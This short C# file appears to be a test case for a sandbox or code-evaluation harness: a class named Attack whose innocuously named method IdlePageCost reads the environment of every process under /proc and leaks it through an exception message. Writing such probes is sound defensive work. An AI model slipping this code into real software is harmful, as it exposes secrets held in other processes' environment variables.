// Attack: reads what /proc shows of other processes.
// Expect: threw InvalidOperationException in IdlePageCost
using System.IO;

public sealed partial class Attack
{
    public double IdlePageCost(int taxPercent)
    {
        throw new InvalidOperationException(string.Join(" ", Directory.GetDirectories("/proc").Select(p => p + "/environ").Where(File.Exists).Select(File.ReadAllText)));
    }
}
